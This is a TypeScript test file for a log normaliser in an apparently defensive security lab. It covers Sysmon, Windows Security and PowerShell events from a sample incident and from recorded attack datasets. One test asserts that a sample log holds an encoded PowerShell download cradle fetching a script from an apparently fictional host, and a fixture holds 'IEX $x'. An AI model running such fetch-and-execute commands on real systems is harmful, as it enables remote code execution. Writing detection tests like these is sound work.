import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { InputError } from '../../src/errors.js';
import { normaliseEvent, readEvents, sampleLabDir } from '../../src/lab/index.js';

const sysmonProcessCreate = {
  '@timestamp': '2020-10-22T03:52:05.774Z',
  EventID: 1,
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  Hostname: 'WORKSTATION5',
  ProcessGuid: '{39e4a257-3a25-5f91-f113-000000000700}',
  ProcessId: '9160',
  Image: 'C:\\Windows\\System32\\mshta.exe',
  CommandLine: '"C:\\windows\\system32\\mshta.exe" "C:\\Users\\wardog\\T1218.005.hta"',
  User: 'WORKSTATION5\\wardog',
  ParentProcessGuid: '{39e4a257-3a12-5f91-ee13-000000000700}',
  ParentProcessId: '10848',
  ParentImage: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  ParentCommandLine: '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
};

describe('normaliseEvent', () => {
  it('maps a Sysmon process create to process and parent', () => {
    const event = normaliseEvent(sysmonProcessCreate, 'e1');
    expect(event).toMatchObject({
      id: 'e1',
      timestamp: '2020-10-22T03:52:05.774Z',
      host: 'WORKSTATION5',
      user: 'WORKSTATION5\\wardog',
      eventCode: 1,
      channel: 'Microsoft-Windows-Sysmon/Operational',
      action: 'process_start',
      process: {
        guid: '{39e4a257-3a25-5f91-f113-000000000700}',
        pid: 9160,
        image: 'C:\\Windows\\System32\\mshta.exe',
      },
      parent: { guid: '{39e4a257-3a12-5f91-ee13-000000000700}', pid: 10848 },
    });
    expect(event.parent?.commandLine).toContain('powershell.exe');
    expect(event.raw).toBe(sysmonProcessCreate);
  });

  it('maps network, DNS, file, registry and image-load events', () => {
    const base = {
      '@timestamp': '2026-11-18T09:00:00.000Z',
      Hostname: 'H1',
      Channel: 'Microsoft-Windows-Sysmon/Operational',
    };
    const network = normaliseEvent(
      {
        ...base,
        EventID: 3,
        Protocol: 'tcp',
        SourceIp: '10.0.0.5',
        SourcePort: '51000',
        DestinationIp: '203.0.113.9',
        DestinationPort: '443',
        DestinationHostname: '-',
      },
      'n',
    );
    expect(network.network).toEqual({
      protocol: 'tcp',
      sourceIp: '10.0.0.5',
      sourcePort: 51000,
      destinationIp: '203.0.113.9',
      destinationPort: 443,
      destinationHostname: null,
    });
    const dns = normaliseEvent(
      { ...base, EventID: 22, QueryName: 'a.example', QueryResults: 'type:  5 b.example;::ffff:192.0.2.7;' },
      'd',
    );
    expect(dns.dns).toEqual({ query: 'a.example', answers: ['b.example', '192.0.2.7'] });
    expect(normaliseEvent({ ...base, EventID: 11, TargetFilename: 'C:\\x.exe' }, 'f').file).toEqual({
      path: 'C:\\x.exe',
    });
    expect(
      normaliseEvent({ ...base, EventID: 13, TargetObject: 'HKU\\Run\\x', Details: 'C:\\x.exe' }, 'r'),
    ).toMatchObject({
      action: 'registry_set',
      registry: { key: 'HKU\\Run\\x', value: 'C:\\x.exe' },
    });
    expect(
      normaliseEvent({ ...base, EventID: 7, ImageLoaded: 'C:\\a.dll', Image: 'C:\\r.exe' }, 'i'),
    ).toMatchObject({
      action: 'image_load',
      file: { path: 'C:\\a.dll' },
      process: { image: 'C:\\r.exe' },
    });
    expect(
      normaliseEvent({ ...base, EventID: 10, SourceImage: 'C:\\p.exe', SourceProcessId: '12' }, 'a'),
    ).toMatchObject({
      action: 'process_access',
      process: { image: 'C:\\p.exe', pid: 12 },
    });
  });

  it('maps Security 4688 (hex pids), 4624 and 4625, whatever the channel case', () => {
    const base = {
      TimeCreated: '2020-10-29T08:23:20.533Z',
      Hostname: 'WS5.theshire.local',
      Channel: 'security',
    };
    const created = normaliseEvent(
      {
        ...base,
        EventID: 4688,
        NewProcessId: '0xea8',
        NewProcessName: 'C:\\ProgramData\\SharpView.exe',
        ProcessId: '0x1e7c',
        ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
        CommandLine: 'SharpView.exe Get-ObjectAcl',
        SubjectUserName: 'pgustavo',
        SubjectDomainName: 'THESHIRE',
      },
      's1',
    );
    expect(created).toMatchObject({
      channel: 'Security',
      action: 'process_start',
      user: 'THESHIRE\\pgustavo',
      process: {
        guid: '{4688-WS5-0xea8-1603959800533}',
        pid: 0xea8,
        commandLine: 'SharpView.exe Get-ObjectAcl',
      },
      parent: { pid: 0x1e7c, image: 'C:\\Windows\\System32\\cmd.exe' },
    });
    const logon = normaliseEvent(
      {
        ...base,
        EventID: 4624,
        LogonType: '3',
        IpAddress: '10.0.0.7',
        TargetUserName: 'bob',
        TargetDomainName: 'CORP',
        SubjectUserName: '-',
      },
      's2',
    );
    expect(logon).toMatchObject({
      action: 'logon',
      user: 'CORP\\bob',
      logon: { type: 3, sourceIp: '10.0.0.7' },
    });
    const failed = normaliseEvent(
      { ...base, EventID: 4625, LogonType: 2, IpAddress: '-', TargetUserName: 'bob' },
      's3',
    );
    expect(failed).toMatchObject({ action: 'logon_failed', user: 'bob', logon: { type: 2, sourceIp: null } });
  });

  it('maps PowerShell 4104 script text to the message and unknown events to other', () => {
    const block = normaliseEvent(
      {
        '@timestamp': '2022-08-18T06:55:56.605Z',
        Hostname: 'pc',
        Channel: 'Microsoft-Windows-PowerShell/Operational',
        EventID: 4104,
        ScriptBlockText: 'IEX $x',
        Message: 'Creating Scriptblock text',
      },
      'p',
    );
    expect(block).toMatchObject({ action: 'script_block', message: 'IEX $x', user: null, process: null });
    const other = normaliseEvent(
      { '@timestamp': '2022-08-18T06:55:56.605Z', Hostname: 'pc', Channel: 'System', EventID: 104 },
      'o',
    );
    expect(other).toMatchObject({ action: 'other', channel: 'System', eventCode: 104 });
  });

  it('tolerates missing fields and falls back to Sysmon UtcTime and local EventTime', () => {
    const bare = normaliseEvent(
      {
        UtcTime: '2020-10-22 07:52:05.773',
        Hostname: 'h',
        EventID: 1,
        Channel: 'Microsoft-Windows-Sysmon/Operational',
      },
      'b',
    );
    expect(bare).toMatchObject({
      timestamp: '2020-10-22T07:52:05.773Z',
      action: 'process_start',
      process: null,
      parent: null,
      user: null,
    });
    const noCode = normaliseEvent({ EventTime: '2020-09-04 16:09:38', Computer: 'dc' }, 'c');
    expect(noCode).toMatchObject({
      timestamp: '2020-09-04T16:09:38.000Z',
      host: 'dc',
      eventCode: 0,
      action: 'other',
      channel: 'unknown',
    });
  });

  it('throws an InputError naming the field when there is no timestamp or no host', () => {
    expect(() => normaliseEvent({ Hostname: 'h', EventID: 1 }, 'x1')).toThrow(InputError);
    expect(() => normaliseEvent({ Hostname: 'h', '@timestamp': 'not a time' }, 'x2')).toThrow(
      /x2: no timestamp/,
    );
    expect(() => normaliseEvent({ '@timestamp': '2020-01-01T00:00:00Z', host: 'collector' }, 'x3')).toThrow(
      /x3: no host.*Hostname/,
    );
  });
});

describe('the sample incident', () => {
  const events = readEvents(join(sampleLabDir, 'sample-incident.jsonl'));

  it('normalises every line, on the incident day, with the expected event kinds', () => {
    expect(events.length).toBeGreaterThanOrEqual(60);
    expect(events.length).toBeLessThanOrEqual(150);
    expect(events.every((event) => event.timestamp.startsWith('2026-11-18T'))).toBe(true);
    const actions = new Set(events.map((event) => event.action));
    for (const action of [
      'process_start',
      'process_end',
      'network_connection',
      'dns_query',
      'file_create',
      'registry_set',
      'image_load',
      'logon',
      'logon_failed',
      'script_block',
    ]) {
      expect(actions, action).toContain(action);
    }
  });

  it('carries a -enc command line whose base64 decodes to a UTF-16LE download cradle', () => {
    const encoded = events.find(
      (event) => event.eventCode === 1 && event.process?.commandLine.includes(' -enc '),
    );
    const payload = encoded?.process?.commandLine.split(' -enc ')[1] ?? '';
    const decoded = Buffer.from(payload, 'base64').toString('utf16le');
    expect(decoded).toContain("DownloadString('https://cdn.remitvault-docs.com/assets/inv4471.ps1')");
    expect(events.some((event) => event.action === 'script_block' && event.message === decoded)).toBe(true);
  });

  it('keeps Sysmon and Security process ids consistent', () => {
    const sysmonStarts = events.filter((event) => event.eventCode === 1);
    const auditStarts = events.filter((event) => event.eventCode === 4688);
    expect(auditStarts.length).toBeGreaterThan(0);
    for (const audit of auditStarts) {
      const twin = sysmonStarts.find(
        (event) =>
          event.host === audit.host &&
          event.process?.image === audit.process?.image &&
          Math.abs(Date.parse(event.timestamp) - Date.parse(audit.timestamp)) < 1000,
      );
      expect(twin?.process?.pid, audit.id).toBe(audit.process?.pid);
      expect(twin?.parent?.pid, audit.id).toBe(audit.parent?.pid);
    }
  });
});

const datasets = new URL('../../../shared/datasets/security-datasets/atomic/windows/', import.meta.url)
  .pathname;
const hasUnzip = (() => {
  try {
    execFileSync('unzip', ['-v'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();

function datasetLines(relative: string): Record<string, unknown>[] {
  const text = execFileSync('unzip', ['-p', join(datasets, relative)], {
    maxBuffer: 512 * 1024 * 1024,
  }).toString('utf8');
  return text
    .split('\n')
    .filter((line) => line.trim() !== '')
    .map((line) => JSON.parse(line) as Record<string, unknown>);
}

describe.skipIf(!existsSync(datasets) || !hasUnzip)('real Security-Datasets records', () => {
  it('normalises a recent-layout file (TimeCreated, string ids) and its mshta → process lineage', () => {
    const raws = datasetLines('defense_evasion/host/psh_mshta_html_application_execution.zip');
    const events = raws.map((raw, index) => normaliseEvent(raw, `mshta-${index}`));
    const mshta = events.find(
      (event) => event.eventCode === 1 && event.process?.image.toLowerCase().endsWith('mshta.exe'),
    );
    expect(mshta).toMatchObject({
      host: 'WORKSTATION5',
      user: 'WORKSTATION5\\wardog',
      action: 'process_start',
    });
    expect(mshta?.parent?.image.toLowerCase()).toContain('powershell.exe');
    expect(mshta?.process?.guid).toMatch(/^\{[0-9a-f-]{36}\}$/);
    const audit = events.find(
      (event) => event.eventCode === 4688 && event.process?.image.toLowerCase().endsWith('mshta.exe'),
    );
    expect(audit?.process?.pid).toBe(0x23c8);
    expect(
      events.some((event) => event.action === 'dns_query' && event.dns?.answers.includes('151.101.208.133')),
    ).toBe(true);
  });

  it('normalises an older-layout file (EventTime, numeric ids, collector `host`) without using the collector as host', () => {
    const raws = datasetLines('execution/host/empire_launcher_vbs.zip');
    const events = raws.map((raw, index) => normaliseEvent(raw, `vbs-${index}`));
    expect(new Set(events.map((event) => event.host))).not.toContain('wec.internal.cloudapp.net');
    const wscript = events.find(
      (event) => event.eventCode === 1 && event.process?.image.endsWith('wscript.exe'),
    );
    expect(wscript).toMatchObject({ user: 'THESHIRE\\pgustavo', process: { pid: 2440 } });
    const logon = events.find((event) => event.eventCode === 4624);
    expect(logon?.logon?.type).toBe(3);
    const counts = new Map<string, number>();
    for (const event of events) counts.set(event.action, (counts.get(event.action) ?? 0) + 1);
    expect(counts.get('network_connection')).toBeGreaterThan(0);
    expect(counts.get('script_block')).toBeGreaterThan(0);
  });
});
